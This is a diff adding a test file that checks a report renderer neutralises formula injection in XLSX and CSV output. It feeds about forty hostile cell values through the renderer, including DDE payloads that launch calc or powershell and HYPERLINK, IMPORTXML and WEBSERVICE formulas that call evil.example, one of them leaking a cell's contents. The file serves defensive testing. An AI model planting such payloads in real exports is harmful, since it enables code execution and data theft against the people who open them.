@@ -1,0 +1,197 @@
+import { mkdtemp, readFile, rm } from 'node:fs/promises'
+import { tmpdir } from 'node:os'
+import { join } from 'node:path'
+import ExcelJS from 'exceljs'
+import { afterAll, beforeAll, describe, expect, it } from 'vitest'
+import type { Cell, CellFormat, ReportDocument, Table } from '../../src/core/report.ts'
+import { renderCsv } from '../../src/render/csv.ts'
+import { renderXlsx } from '../../src/render/xlsx.ts'
+import { readZip } from '../render/read-zip.ts'
+
+/** What a person could call himself, to have a formula run at whoever opens a report. */
+const CORPUS = [
+  '=1+1',
+  "=cmd|'/c calc'!A0",
+  '=HYPERLINK("http://evil.example?x="&A1,"click")',
+  '=IMPORTXML("http://evil.example","//a")',
+  '=WEBSERVICE("http://evil.example")',
+  '=DDE("cmd";"/c calc";"x")',
+  "=2+5+cmd|'/c powershell'!A0",
+  '+1+1',
+  '+cmd|x!A0',
+  '+14155550100',
+  '-1+1',
+  '-2+3+cmd|x!A0',
+  '@SUM(1+1)',
+  '@A1',
+  '\t=1+1',
+  '\r=1+1',
+  '\n=1+1',
+  '\r\n=1+1',
+  ' =1+1',
+  '   +1',
+  '\u00a0=1+1',
+  '\u200b=1+1',
+  '\ufeff=1+1',
+  '\u2003=1+1',
+  '\u3000-1',
+  '＝1+1',
+  '＋1',
+  '－1',
+  '＠SUM(1)',
+  ' ＝1',
+  "'=1+1",
+  "''=1",
+  '"=1+1"',
+  '";=1+1;"',
+  'a\n=1+1',
+  'a,=1+1',
+  'a;=1+1\t=2',
+  '%0A=1+1',
+  '\0=1+1',
+  '=1+1\u202e',
+  '==1',
+  '=\n1',
+]
+const DANGEROUS = CORPUS.filter((text) => !/^(?:"|a|%)/.test(text))
+
+let directory: string
+let parts: Map<string, string>
+beforeAll(async () => {
+  directory = await mkdtemp(join(tmpdir(), 'callsheet-formula-'))
+  await renderXlsx(document(), join(directory, 'a.xlsx'))
+  await renderCsv(table(), join(directory, 'a.csv'))
+  parts = readZip(await readFile(join(directory, 'a.xlsx')))
+})
+afterAll(() => rm(directory, { recursive: true }))
+
+describe('hostile text in every kind of column', () => {
+  it('is a corpus of forty, most of which would run', () => {
+    expect(new Set(CORPUS).size).toBeGreaterThanOrEqual(40)
+    expect(DANGEROUS.length).toBeGreaterThanOrEqual(32)
+  })
+
+  it('makes no formula, no link and no external reference in the workbook', () => {
+    const all = [...parts.values()].join('\n')
+    expect(all).not.toMatch(/<f[ >/]/)
+    expect(all).not.toMatch(/ddeLink|externalLink|TargetMode="External"/)
+    const links = [...all.matchAll(/<hyperlink [^>]*>/g)].map(([link]) => link)
+    expect(links.filter((link) => !link.includes('location="'))).toEqual([])
+  })
+
+  it('is a typed string in every cell, marked against editing where it looks like a formula', () => {
+    const formats = [...(parts.get('xl/styles.xml') ?? '').matchAll(/<xf [^>]*>/g)]
+      .map(([xf]) => xf)
+      .filter((xf) => xf.includes(' xfId='))
+    let marked = 0
+    let read = 0
+    for (const { type, style, text } of cellsOf(parts)) {
+      const value = unescaped(text)
+      const index = CORPUS.indexOf(value)
+      if (index < 0) continue
+      read++
+      expect(type).toMatch(/^(s|str|inlineStr)$/)
+      const quoted = formats[style]?.includes('quotePrefix="1"') === true
+      if (DANGEROUS.includes(value)) {
+        expect({ value, quoted }).toEqual({ value, quoted: true })
+        marked++
+      }
+    }
+    expect(read).toBe(CORPUS.length * FORMATS.length)
+    expect(marked).toBe(DANGEROUS.length * FORMATS.length)
+  })
+
+  it('comes back unchanged from the workbook, in titles and notes too', async () => {
+    const workbook = new ExcelJS.Workbook()
+    await workbook.xlsx.readFile(join(directory, 'a.xlsx'))
+    const texts = workbook.worksheets.flatMap((sheet) => {
+      const found: string[] = []
+      sheet.eachRow((row) =>
+        row.eachCell((cell) => {
+          expect(cell.type).not.toBe(ExcelJS.ValueType.Formula)
+          found.push(cell.text)
+        }),
+      )
+      return found
+    })
+    for (const text of CORPUS) expect(texts.filter((one) => one === text).length).toBeGreaterThan(5)
+  })
+
+  it('begins with an apostrophe in every cell of the CSV, and is the value behind it', async () => {
+    const rows = cellsOfCsv(await readFile(join(directory, 'a.csv'), 'utf8'))
+    expect(rows[0]?.[0]).toMatch(/^'=/)
+    const cells = rows.slice(1).flat()
+    expect(cells).toHaveLength(CORPUS.length * FORMATS.length)
+    for (const [at, cell] of cells.entries()) {
+      const value = CORPUS[Math.floor(at / FORMATS.length)] ?? ''
+      expect(cell).toBe(DANGEROUS.includes(value) ? `'${value}` : value)
+    }
+  })
+})
+
+const FORMATS: readonly CellFormat[] = ['text', 'boolean', 'integer', 'percent', 'date', 'instant']
+
+function table(): Table {
+  return {
+    kind: 'table',
+    title: '=title',
+    columns: FORMATS.map((format) => ({ name: `=${format}`, title: `=${format}`, format })),
+    rows: CORPUS.map((text): Cell[] => FORMATS.map(() => text)),
+  }
+}
+
+function document(): ReportDocument {
+  const notes = CORPUS.map((text) => ({ kind: 'note' as const, tone: 'plain' as const, text }))
+  return {
+    title: '=title',
+    subtitle: '@subtitle',
+    asOfMs: Date.UTC(2026, 10, 20),
+    sections: [
+      { title: '=cover', blocks: notes },
+      { title: '+table', blocks: [table()] },
+    ],
+  }
+}
+
+function cellsOf(from: ReadonlyMap<string, string>) {
+  const shared = [...(from.get('xl/sharedStrings.xml') ?? '').matchAll(/<si>.*?<\/si>/gs)].map(
+    ([item]) => textOf(item),
+  )
+  // The second sheet is the table's; the notes of the first are in no one's hands but ours.
+  const sheets = [...from].filter(([name]) => name === 'xl/worksheets/sheet2.xml')
+  return sheets.flatMap(([, xml]) =>
+    [...xml.matchAll(/<c ([^>]*)>(.*?)<\/c>/gs)].map(([, attributes = '', inner = '']) => {
+      const type = /\bt="(\w+)"/.exec(attributes)?.[1]
+      const style = Number(/\bs="(\d+)"/.exec(attributes)?.[1] ?? 0)
+      const text =
+        type === 's' ? (shared[Number(/<v>(\d+)/.exec(inner)?.[1])] ?? '') : textOf(inner)
+      return { type, style, text }
+    }),
+  )
+}
+
+function textOf(xml: string): string {
+  const inner = [...xml.matchAll(/<t[^>]*>(.*?)<\/t>/gs)].map(([, text = '']) => text).join('')
+  return inner
+    .replace(/&lt;/g, '<')
+    .replace(/&gt;/g, '>')
+    .replace(/&quot;/g, '"')
+    .replace(/&apos;|&#39;/g, "'")
+    .replace(/&amp;/g, '&')
+}
+
+function unescaped(text: string): string {
+  return text.replace(/_x([0-9A-F]{4})_/g, (_, hex: string) =>
+    String.fromCharCode(Number.parseInt(hex, 16)),
+  )
+}
+
+function cellsOfCsv(text: string): string[][] {
+  const rows: string[][] = [[]]
+  const cell = /(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n)/g
+  for (const [, quoted, plain, end] of text.matchAll(cell)) {
+    rows.at(-1)?.push(quoted?.replaceAll('""', '"') ?? plain ?? '')
+    if (end === '\r\n') rows.push([])
+  }
+  return rows.slice(0, -1)
+}
